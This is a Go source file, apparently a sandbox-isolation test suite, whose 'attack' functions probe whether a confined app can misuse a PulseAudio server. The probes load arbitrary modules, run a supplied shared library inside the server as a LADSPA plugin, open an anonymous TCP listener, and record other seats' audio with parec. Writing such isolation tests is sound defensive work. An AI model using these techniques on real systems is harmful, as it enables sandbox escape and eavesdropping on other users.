package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

var errNoPactl = errors.New("pactl is not installed (Debian's package is pulseaudio-utils)")

// pactl gives an order to a sound server and returns its answer.
func pactl(c ctx, server string, args ...string) (string, error) {
	program, err := exec.LookPath("pactl")
	if err != nil {
		return "", errNoPactl
	}
	cmd := exec.CommandContext(c, program, args...)
	if server != "" {
		cmd.Env = append(os.Environ(), "PULSE_SERVER=unix:"+server)
	}
	out, err := cmd.CombinedOutput()
	text := strings.Join(strings.Fields(string(out)), " ")
	if err != nil {
		return text, errors.New(text)
	}
	return text, nil
}

// loadModule lets this seat's sound server load a module until the attack ends. It
// reports whether there is a result already.
func (a *attacker) loadModule(c ctx, args ...string) (unload func(), err error) {
	if soundSocket() == "" {
		a.lack("the seat has no sound server")
		return nil, os.ErrNotExist
	}
	index, err := pactl(c, "", append([]string{"load-module"}, args...)...)
	if errors.Is(err, errNoPactl) {
		a.lack("%v", err)
		return nil, err
	}
	if err != nil {
		a.refuse("load "+args[0], err)
		return func() {}, err
	}
	return func() { _, _ = pactl(c, "", "unload-module", index) }, nil
}

// soundModuleLoad lets the sound server load any module.
func soundModuleLoad(c ctx, a *attacker) Result {
	if unload, err := a.loadModule(c, "module-null-sink", "sink_name=nearcast-attack"); err == nil {
		unload()
		a.succeed("the sound server loaded module-null-sink")
	}
	return a.result()
}

// soundModule lets the sound server load a library of the app's own, and looks where
// its code ran.
func soundModule(c ctx, a *attacker) Result {
	if len(a.Plugin) == 0 {
		a.lack("no library was given")
		return a.result()
	}
	library := filepath.Join(home(), "attack-plugin.so")
	if err := os.WriteFile(library, a.Plugin, 0o755); err != nil {
		a.refuse("write the library", err)
		return a.result()
	}
	defer os.Remove(library)
	unload, err := a.loadModule(c, "module-ladspa-sink", "sink_name=nearcast-attack", "plugin="+library, "label=attack", "master=nearcast")
	if unload == nil {
		return a.result()
	}
	if err == nil {
		defer unload()
	}
	// The code ran when the library was opened, even if the module then failed.
	proof, err := os.ReadFile(library + ".proof")
	if err != nil {
		a.refuse("the library's code did not run", err)
		return a.result()
	}
	defer os.Remove(library + ".proof")
	a.outside("the library's code", strings.Fields(string(proof)))
	return a.result()
}

// outside notes whether code that runs in these namespaces is outside of this process's.
func (a *attacker) outside(what string, namespaces []string) {
	var others, nodes []string
	for _, ns := range namespaces {
		kind, _, _ := strings.Cut(ns, ":")
		own, _ := os.Readlink("/proc/self/ns/" + kind)
		switch {
		case a.Namespaces[kind] == ns:
			nodes = append(nodes, kind)
		case own != ns:
			others = append(others, kind)
		}
	}
	switch {
	case len(nodes) > 0:
		a.succeed("%s runs in the node's namespaces %s", what, strings.Join(nodes, ", "))
	case len(others) > 0:
		a.succeed("%s runs in other namespaces: %s", what, strings.Join(others, ", "))
	default:
		a.refused = append(a.refused, what+" runs, but in the namespaces of the seat")
	}
}

// soundPort lets the sound server listen on a TCP port, and looks whether that port is
// in another network than the app.
func soundPort(c ctx, a *attacker) Result {
	port := 21_000 + rand.IntN(9_000)
	unload, err := a.loadModule(c, "module-native-protocol-tcp", fmt.Sprintf("port=%d", port), "listen=127.0.0.1", "auth-anonymous=1")
	if err != nil {
		return a.result()
	}
	defer unload()
	listening, _ := os.ReadFile("/proc/net/tcp")
	network, _ := os.Readlink("/proc/self/ns/net")
	switch {
	case !strings.Contains(string(listening), fmt.Sprintf(":%04X 00000000:0000", port)):
		a.succeed("the sound server listens on a port of another network than the app's")
	case network == a.Namespaces["net"]:
		a.succeed("the sound server listens on a port of the node")
	default:
		a.refused = append(a.refused, "the sound server listens, but in the network of the seat")
	}
	return a.result()
}

// soundListen records what another seat plays.
func soundListen(c ctx, a *attacker) Result {
	program, err := exec.LookPath("parec")
	if err != nil {
		a.lack("%v", errNoPactl)
		return a.result()
	}
	found, _ := filepath.Glob("/tmp/.nearcast-*/s/native")
	for _, s := range append(listedSockets(), found...) {
		if strings.HasSuffix(s, "/native") && a.mayTry(s) {
			a.Sounds = append(a.Sounds, s)
		}
	}
	for _, socket := range a.Sounds {
		if socket == soundSocket() {
			continue
		}
		if _, err := os.Lstat(socket); err != nil {
			a.refuse(socket, err)
			continue
		}
		loudest, err := record(c, program, socket)
		switch {
		case err != nil:
			a.refuse(socket, err)
		case loudest < 1000:
			a.refuse(socket, fmt.Errorf("connected, but heard nothing (loudest sample %d)", loudest))
		default:
			a.succeed("heard the other seat at %s (loudest sample %d)", socket, loudest)
		}
	}
	return a.result()
}

// record listens to a sound server for half a second.
func record(c ctx, program, socket string) (loudest int, err error) {
	cmd := exec.CommandContext(c, program, "--raw", "--format=s16le", "--rate=8000", "--channels=1", "--latency-msec=50", "--device=nearcast.monitor")
	cmd.Env = append(os.Environ(), "PULSE_SERVER=unix:"+socket)
	var said bytes.Buffer
	cmd.Stderr = &said
	out, err := cmd.StdoutPipe()
	if err != nil {
		return 0, err
	}
	if err := cmd.Start(); err != nil {
		return 0, err
	}
	late := time.AfterFunc(2*time.Second, func() { _ = cmd.Process.Kill() })
	defer late.Stop()
	samples := make([]byte, 8000)
	n, _ := io.ReadFull(out, samples)
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	if n == 0 {
		return 0, errors.New(strings.TrimSpace("no sound came " + said.String()))
	}
	for i := 0; i+1 < n; i += 2 {
		sample := int(int16(binary.LittleEndian.Uint16(samples[i:])))
		loudest = max(loudest, sample, -sample)
	}
	return loudest, nil
}
